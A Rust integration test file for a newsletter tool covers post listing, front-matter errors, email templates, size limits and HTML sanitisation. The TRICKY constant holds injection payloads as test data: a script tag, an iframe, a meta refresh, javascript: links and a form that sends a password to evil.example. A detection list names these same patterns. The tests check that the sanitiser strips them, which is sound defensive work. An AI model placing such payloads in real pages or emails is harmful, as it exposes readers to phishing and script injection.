//! The content side through the real binary: posts, templates, previews.

use crate::helpers::Project;

fn two_posts() -> Project {
    let p = Project::new();
    p.post(
        "2026-11-20-first",
        "First post",
        "2026-11-20",
        "Intro with a [relative link](details/) and ![img](pic.png).\n\n<!-- more -->\n\nRest.\n",
    );
    p.write(
        "posts/second.md",
        "---\ntitle: Second & <b>bold</b>\ndate: 2026-11-22T10:00:00Z\nsummary: The second summary.\n---\nBody of the second.\n",
    );
    p
}

#[test]
fn posts_list_json_has_the_contract_fields() {
    let p = two_posts();
    p.post("draft", "A draft", "2026-11-01", "x");
    p.write(
        "posts/future.md",
        "+++\ntitle = \"Later\"\ndate = 2027-01-01\n+++\nx",
    );
    let out = p.run(&["posts", "list", "--json"]);
    out.ok();
    let v: serde_json::Value = serde_json::from_str(&out.stdout()).unwrap();
    let arr = v.as_array().unwrap();
    assert_eq!(arr.len(), 4);
    for key in ["slug", "title", "date", "draft", "url", "summary", "status"] {
        assert!(arr.iter().all(|o| o.get(key).is_some()), "missing {key}");
    }
    let by_slug = |s: &str| arr.iter().find(|o| o["slug"] == s).unwrap().clone();
    assert_eq!(by_slug("first")["url"], "https://example.com/blog/first/");
    assert_eq!(
        by_slug("first")["summary"],
        "Intro with a relative link and img."
    );
    assert_eq!(by_slug("future")["status"], "scheduled");
    assert_eq!(by_slug("second")["status"], "published");
    // Newest first.
    assert_eq!(arr[0]["slug"], "future");
    let text = p.run(&["posts", "list"]);
    text.ok();
    assert!(text.stdout().contains("scheduled"));
}

#[test]
fn a_bad_post_never_hides_the_others() {
    let p = two_posts();
    p.write("posts/broken.md", "+++\ndate = 2026-01-01\n+++\n");
    let out = p.run(&["posts", "list", "--json"]);
    out.ok();
    assert!(out
        .stderr()
        .contains("broken.md:1: missing required field `title`"));
    let v: serde_json::Value = serde_json::from_str(&out.stdout()).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 2);
}

#[test]
fn posts_check_reports_each_bad_input_with_path_and_line() {
    let cases: &[(&str, &[u8], &str)] = &[
        (
            "no-title.md",
            b"+++\ndate = 2026-01-01\n+++\n",
            "no-title.md:1: missing required field `title`",
        ),
        (
            "no-date.md",
            b"---\ntitle: T\n---\n",
            "no-date.md:1: missing required field `date`",
        ),
        (
            "bad-date.md",
            b"+++\ntitle = \"T\"\ndate = \"31/12/2026\"\n+++\n",
            "bad-date.md:3: invalid date",
        ),
        (
            "open.md",
            b"+++\ntitle = \"T\"\ndate = 2026-01-01\n",
            "open.md:1: unterminated front matter",
        ),
        (
            "bad-toml.md",
            b"+++\ntitle = \"T\ndate = 2026-01-01\n+++\n",
            "bad-toml.md:2: invalid TOML front matter",
        ),
        (
            "bad-yaml.md",
            b"---\ntitle: T\ndate: 2026-01-01\ntags: [a\n---\n",
            "bad-yaml.md:4: invalid YAML front matter: unclosed bracket",
        ),
        (
            "latin1.md",
            b"+++\ntitle = \"T\"\ndate = 2026-01-01\n+++\ncaf\xe9\n",
            "latin1.md:5: not valid UTF-8",
        ),
    ];
    for (name, content, needle) in cases {
        let p = Project::new();
        p.post("good", "Good", "2026-01-01", "fine");
        p.write(&format!("posts/{name}"), content);
        p.run(&["posts", "check"]).fails_with(needle);
    }
}

#[test]
fn duplicate_slugs_are_reported_for_both_files() {
    let p = Project::new();
    p.post("a", "A", "2026-01-01", "x");
    p.write(
        "posts/sub/2026-01-02-a.md",
        "+++\ntitle = \"A again\"\ndate = 2026-01-02\n+++\n",
    );
    let out = p.run(&["posts", "check"]);
    out.fails_with("duplicate slug \"a\"");
    assert_eq!(out.stderr().matches("duplicate slug").count(), 2);
}

#[test]
fn template_errors_name_the_file_and_line() {
    let p = two_posts();
    p.write("templates/email/post.html", "{% extends \"email/base.html\" %}\n{% block content %}\n{{ post.title }\n{% endblock content %}\n");
    p.run(&["posts", "check"])
        .fails_with("templates/email/post.html:3: template syntax error");
    p.run(&["preview", "post", "first"])
        .fails_with("templates/email/post.html:3:");

    let p = two_posts();
    p.write("templates/email/digest.txt", "{% extends \"email/base.txt\" %}\n{% block content %}\n{{ no_such_thing }}\n{% endblock content %}\n");
    p.run(&["posts", "check"]).fails_with(
        "templates/email/digest.txt:3: template uses undefined variable `no_such_thing`",
    );
}

#[test]
fn templates_override_file_by_file() {
    let p = two_posts();
    p.write(
        "templates/email/post.txt",
        "{% extends \"email/base.txt\" %}\n{% block content %}CUSTOM {{ post.title }}{% endblock content %}\n",
    );
    let out = p.run(&["preview", "post", "first", "--format", "text"]);
    out.ok();
    assert!(
        out.stdout().contains("CUSTOM First post"),
        "{}",
        out.stdout()
    );
    // The HTML template is still the built-in one.
    let html = p.run(&["preview", "post", "first"]);
    html.ok();
    assert!(html.stdout().contains("Read it on the web"));
}

#[test]
fn post_email_golden_checks() {
    let p = two_posts();
    let out = p.run(&["preview", "post", "first", "--format", "html"]);
    out.ok();
    let html = out.stdout();
    // CSS really inlined: no <style> block, style attributes on elements.
    assert!(!html.contains("<style"), "{html}");
    assert!(html.contains("<body style=\""), "{html}");
    assert!(html.contains("<h1 style=\""), "{html}");
    // Links absolute against the post's URL.
    assert!(
        html.contains("href=\"https://example.com/blog/first/details/\""),
        "{html}"
    );
    assert!(
        html.contains("src=\"https://example.com/blog/first/pic.png\""),
        "{html}"
    );
    // Footer: unsubscribe link and postal address.
    assert!(
        html.contains("href=\"http://127.0.0.1:9/unsubscribe/preview\""),
        "{html}"
    );
    assert!(html.contains("1 Test Street, Testville"));
    assert!(!html.contains('\u{E000}'));

    let text = p.run(&["preview", "post", "first", "--format", "text"]);
    text.ok();
    let text = text.stdout();
    assert!(text.contains("First post"));
    assert!(
        text.contains("relative link <https://example.com/blog/first/details/>"),
        "{text}"
    );
    assert!(
        text.contains("Unsubscribe: http://127.0.0.1:9/unsubscribe/preview"),
        "{text}"
    );
    assert!(text.contains("1 Test Street, Testville"));
}

#[test]
fn titles_are_escaped_in_html() {
    let p = two_posts();
    let out = p.run(&["preview", "post", "second"]);
    out.ok();
    assert!(
        out.stdout()
            .contains("Second &amp; &lt;b&gt;bold&lt;/b&gt;"),
        "{}",
        out.stdout()
    );
}

#[test]
fn digest_lists_the_window_newest_first() {
    let p = two_posts();
    p.post("old", "Old post", "2026-10-01", "Old.");
    let out = p.run(&["preview", "digest", "--format", "text"]);
    out.ok();
    let t = out.stdout();
    let second = t.find("Second & <b>bold</b>").expect(&t);
    let first = t.find("First post").expect(&t);
    assert!(second < first, "newest first:\n{t}");
    assert!(
        !t.contains("Old post"),
        "default window is the last 7 days:\n{t}"
    );
    assert!(t.contains("Read more: https://example.com/blog/first/"));
    assert!(t.contains("The second summary."));

    let out = p.run(&[
        "preview",
        "digest",
        "--since",
        "2026-09-01",
        "--until",
        "2026-10-01",
        "--format",
        "html",
    ]);
    out.ok();
    let h = out.stdout();
    assert!(h.contains("Old post") && !h.contains("First post"), "{h}");
    assert!(h.contains("href=\"https://example.com/blog/old/\""));
}

#[test]
fn eml_is_a_complete_multipart_message() {
    let p = two_posts();
    let out = p.run(&["preview", "post", "first", "--format", "eml"]);
    out.ok();
    let eml = out.stdout();
    let head = eml.split("\r\n\r\n").next().unwrap().replace("\r\n ", " ");
    for h in [
        "From: ",
        "To: ",
        "Subject: Test Notes: First post",
        "Date: ",
        "Message-ID: <",
        "@example.com>",
        "MIME-Version: 1.0",
        "multipart/alternative",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
    ] {
        assert!(head.contains(h), "missing {h:?}:\n{head}");
    }
    assert!(eml.contains("Content-Type: text/plain; charset=utf-8"));
    assert!(eml.contains("Content-Type: text/html; charset=utf-8"));
}

#[test]
fn output_file_is_written_whole() {
    let p = two_posts();
    p.run(&["preview", "post", "first", "-o", "out.html"]).ok();
    let s = std::fs::read_to_string(p.path().join("out.html")).unwrap();
    assert!(s.contains("First post"));
    let leftovers: Vec<_> = std::fs::read_dir(p.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().contains(".tmp"))
        .collect();
    assert!(leftovers.is_empty());
    // A failing preview leaves no file behind.
    p.run(&["preview", "post", "missing", "-o", "none.html"])
        .fails_with("no post with slug \"missing\"");
    assert!(!p.path().join("none.html").exists());
}

#[test]
fn config_errors_are_one_clear_line() {
    let p = Project::with_config("[newsletter]\ntitle = \"T\"\nfrom = \"bad\"\nbase_url = \"https://x.org\"\npostal_address = \"a\"\n");
    p.run(&["posts", "list"])
        .fails_with("gazette.toml:3: newsletter.from:");
    let p = Project::with_config("[newsletter\n");
    p.run(&["posts", "list"]).fails_with("gazette.toml:1:");
    let p = Project::new();
    std::fs::remove_file(p.path().join("gazette.toml")).unwrap();
    p.run(&["posts", "list"])
        .fails_with("gazette.toml: configuration file not found");
    let out = p.run(&["posts", "frobnicate"]);
    assert_eq!(out.code(), 2);
}

#[test]
fn init_writes_a_working_project_and_never_overwrites() {
    let p = Project::new();
    let dir = p.path().join("blog");
    p.run(&["init", dir.to_str().unwrap()]).ok();
    for f in [
        "gazette.toml",
        "posts/hello-subscribers.md",
        "templates/email/post.html",
        "templates/web/index.html",
    ] {
        assert!(dir.join(f).exists(), "{f}");
    }
    std::fs::write(
        dir.join("posts/hello-subscribers.md"),
        "+++\ntitle = \"Mine\"\ndate = 2026-01-01\n+++\nmine",
    )
    .unwrap();
    let again = p.run(&["init", dir.to_str().unwrap()]);
    again.ok();
    assert!(again.stderr().contains("kept"));
    assert!(
        std::fs::read_to_string(dir.join("posts/hello-subscribers.md"))
            .unwrap()
            .contains("Mine")
    );
    let out = p.run(&[
        "--config",
        dir.join("gazette.toml").to_str().unwrap(),
        "posts",
        "check",
    ]);
    out.ok();
}

/// A Markdown table of `rows` × `cols` cells.
fn table(rows: usize, cols: usize) -> String {
    let row = format!("|{}\n", "a|".repeat(cols));
    format!("|{}\n|{}\n", "h|".repeat(cols), "-|".repeat(cols)) + &row.repeat(rows)
}

#[test]
fn a_huge_post_is_refused_with_its_file_and_the_limit() {
    // Issue 24: a 4.8 MB post of a 5,000 × 500 table took 10 s and 1.84 GB
    // to preview and gave a 158 MB email. A fifth of it (about 5 MB of
    // HTML, over twice the 2 MB limit) is refused the same way.
    let p = two_posts();
    p.post("huge", "Huge", "2026-11-21", &table(1_000, 500));
    let out = p.run(&["preview", "post", "huge"]);
    out.fails_with(
        "huge.md: the post's HTML alone is over the largest allowed (2.0 MB, `[paths] max_email_size`)",
    );
    assert_eq!(out.code(), 1);
    assert!(out.stdout().is_empty(), "no email printed");
    assert_eq!(out.stderr().lines().count(), 1, "{}", out.stderr());
    // `posts check` names it too, and the other posts are fine.
    let check = p.run(&["posts", "check"]);
    check.fails_with("huge.md: the post's HTML alone is over");
    assert!(!check.stderr().contains("first.md"), "{}", check.stderr());
    // Any other post still previews.
    p.run(&["preview", "post", "first"]).ok();
}

#[test]
fn the_email_size_limit_is_configurable_and_gmail_clipping_is_warned() {
    // About 1.2 MB of HTML once styles are inlined: over Gmail's 102 KB,
    // under the 2 MB default.
    let p = two_posts();
    p.post("long", "Long", "2026-11-21", &table(1_000, 20));
    let out = p.run(&["preview", "post", "long"]);
    out.ok();
    assert!(out.stdout().contains("<table"));
    let stderr = out.stderr();
    let warning: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains("Gmail clips"))
        .collect();
    assert_eq!(warning.len(), 1, "{}", out.stderr());
    assert!(
        warning[0].contains("long.md: the email's HTML is "),
        "{}",
        warning[0]
    );
    // A small post gives no warning.
    let small = p.run(&["preview", "post", "first"]);
    small.ok();
    assert!(!small.stderr().contains("Gmail"), "{}", small.stderr());

    // Under a 100KB limit the same post is refused; under 20KB even a
    // small one whose email (templates and inlined styles) is larger.
    let with_limit = |limit: &str| {
        let p = Project::with_config(&format!(
            "{}\n[paths]\nmax_email_size = \"{limit}\"\n",
            crate::helpers::CONFIG
        ));
        p.post("long", "Long", "2026-11-21", &table(1_000, 20));
        p.post("short", "Short", "2026-11-21", &table(60, 20));
        p
    };
    let p = with_limit("100KB");
    p.run(&["preview", "post", "long"]).fails_with(
        "long.md: the post's HTML alone is over the largest allowed (100 KB, `[paths] max_email_size`)",
    );
    p.run(&["preview", "post", "short"]).ok();
    let p = with_limit("20KB");
    p.run(&["preview", "post", "short"])
        .fails_with("short.md: the email would be");
    p.run(&["preview", "post", "short"])
        .fails_with("over the largest allowed (20 KB, `[paths] max_email_size`)");
    let p = with_limit("lots");
    p.run(&["posts", "list"])
        .fails_with("gazette.toml:10: paths.max_email_size:");
}

#[test]
fn raw_html_is_sanitised_in_the_email() {
    let p = two_posts();
    p.post("tricky", "Tricky", "2026-11-21", TRICKY);
    let out = p.run(&["preview", "post", "tricky"]);
    out.ok();
    assert_no_tricks(&out.stdout());
    let html = out.stdout();
    // What Markdown made stays.
    assert!(html.contains("<strong"), "{html}");
    assert!(html.contains("href=\"https://ok.example/\""), "{html}");
    assert!(
        html.contains("href=\"https://example.com/blog/tricky/rel/x\""),
        "{html}"
    );
    // The text part shows no script link either; the eml no HTML trick.
    let text = p.run(&["preview", "post", "tricky", "--format", "text"]);
    text.ok();
    assert!(text.stdout().contains("click"), "{}", text.stdout());
    assert_no_tricks(&text.stdout());
    let eml = p.run(&["preview", "post", "tricky", "--format", "eml"]);
    eml.ok();
    assert!(!eml.stdout().contains("<script"), "{}", eml.stdout());

    // A trusted author opts out with `raw_html = true`.
    p.write(
        "posts/trusted.md",
        format!("+++\ntitle = \"Trusted\"\ndate = 2026-11-21\nraw_html = true\n+++\n{TRICKY}"),
    );
    let out = p.run(&["preview", "post", "trusted"]);
    out.ok();
    assert!(out.stdout().contains("<iframe"), "{}", out.stdout());
    // `raw_html` must be a boolean, at its line.
    p.write(
        "posts/trusted.md",
        "+++\ntitle = \"Trusted\"\ndate = 2026-11-21\nraw_html = \"yes\"\n+++\nx",
    );
    p.run(&["posts", "check"])
        .fails_with("trusted.md:4: `raw_html` must be true or false");
}

/// Raw HTML and links a post must not smuggle into an email or the archive.
const TRICKY: &str = "Hello **there**.\n\n\
    <meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n\n\
    <script>alert('s')</script>\n\n\
    <iframe src=\"https://evil.example/frame\"></iframe>\n\n\
    <form action=\"https://evil.example/steal\"><input type=\"password\" name=\"pw\"></form>\n\n\
    <p onmouseover=\"alert('m')\">hover</p>\n\n\
    [click](javascript:alert('j')) [data](data:text/html;base64,PHNjcmlwdD4=) \
    [ok](https://ok.example/) <a href=\"rel/x\">relative</a>\n";

fn assert_no_tricks(html: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in [
        "http-equiv",
        "evil.example",
        "<script",
        "alert(",
        "<iframe",
        "<form",
        "password",
        "onmouseover",
        "javascript:",
        "data:text",
    ] {
        assert!(!lower.contains(bad), "{bad:?} in\n{html}");
    }
}

#[test]
fn raw_html_is_sanitised_in_the_public_archive() {
    let p = Project::with_config(&format!(
        "{}\n[archive]\nenabled = true\n",
        crate::helpers::CONFIG
    ));
    p.post("tricky", "Tricky", "2026-11-21", TRICKY);
    p.run(&["subscribers", "add", "r@example.org", "--confirmed"])
        .ok();
    p.run(&["send", "post", "tricky", "--yes"]).ok();
    let s = crate::helpers::server::serve(&p, &[]);
    let page = crate::http::get(s.addr, "/archive/1/test-notes-tricky");
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("Hello"), "{}", page.body);
    assert_no_tricks(&page.body);
}

#[test]
fn a_scheduled_post_is_in_the_digest_preview_of_its_window() {
    // Now is 2026-11-23 12:00 (helpers); "soon" is published on the 25th.
    let p = two_posts();
    p.post("soon", "Coming soon", "2026-11-25", "Soon.");
    p.post("unfinished", "Unfinished", "2026-11-24", "x");
    p.write(
        "posts/unfinished.md",
        "+++\ntitle = \"Unfinished\"\ndate = 2026-11-24\ndraft = true\n+++\nx",
    );
    let out = p.run(&[
        "preview",
        "digest",
        "--since",
        "2026-11-20",
        "--until",
        "2026-11-27",
        "--format",
        "text",
    ]);
    out.ok();
    let t = out.stdout();
    let soon = t.find("Coming soon").expect(&t);
    let second = t.find("Second & <b>bold</b>").expect(&t);
    assert!(soon < second, "newest first:\n{t}");
    assert!(t.contains("First post"), "{t}");
    assert!(!t.contains("Unfinished"), "drafts stay out:\n{t}");
    assert!(
        out.stderr()
            .contains("note: soon is scheduled (2026-11-25) and would not be in a digest sent now"),
        "{}",
        out.stderr()
    );
    // The default window ends now: the scheduled post is named, not lost.
    let out = p.run(&["preview", "digest", "--format", "text"]);
    out.ok();
    assert!(!out.stdout().contains("Coming soon"), "{}", out.stdout());
    assert!(
        out.stderr().contains(
            "note: soon is scheduled (2026-11-25), after this window: see it with --until 2026-11-25"
        ),
        "{}",
        out.stderr()
    );
    // Sending never carries it early.
    p.run(&["subscribers", "add", "r@example.org", "--confirmed"])
        .ok();
    p.run(&[
        "send",
        "digest",
        "--since",
        "2026-11-20",
        "--until",
        "2026-11-27",
        "--yes",
    ])
    .ok();
    let mut sent = String::new();
    for e in std::fs::read_dir(p.path().join("outbox")).unwrap() {
        sent += &std::fs::read_to_string(e.unwrap().path()).unwrap();
    }
    assert!(sent.contains("Second"), "{sent}");
    assert!(!sent.contains("Coming soon"), "{sent}");
}

#[test]
fn an_archived_refresh_never_redirects_and_a_non_ascii_subject_redirects_right() {
    let p = Project::with_config(&format!(
        "{}\n[archive]\nenabled = true\n",
        crate::helpers::CONFIG
    ));
    // A trusted author's raw HTML is sent as written; the archive page
    // still never redirects its readers elsewhere.
    p.write(
        "posts/ete.md",
        "+++\ntitle = \"Brève d'été\"\ndate = 2026-11-21\nraw_html = true\n+++\n\
         <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n\nHello.\n",
    );
    p.run(&["subscribers", "add", "r@example.org", "--confirmed"])
        .ok();
    p.run(&["send", "post", "ete", "--yes"]).ok();
    let s = crate::helpers::server::serve(&p, &[]);
    let moved = crate::http::get(s.addr, "/archive/1/wrong-slug");
    assert_eq!(moved.status, 301, "{}", moved.body);
    let location = moved.header("location").expect("a Location").to_string();
    assert!(location.is_ascii(), "{location}");
    assert!(location.contains("/archive/1/"), "{location}");
    assert!(location.contains("%C3%A8"), "è percent-encoded: {location}");
    let path = &location[location.find("/archive/").unwrap()..];
    let page = crate::http::get(s.addr, path);
    assert_eq!(page.status, 200, "{path}: {}", page.body);
    assert!(page.body.contains("Hello"), "{}", page.body);
    assert!(
        !page.body.to_ascii_lowercase().contains("http-equiv"),
        "{}",
        page.body
    );
}
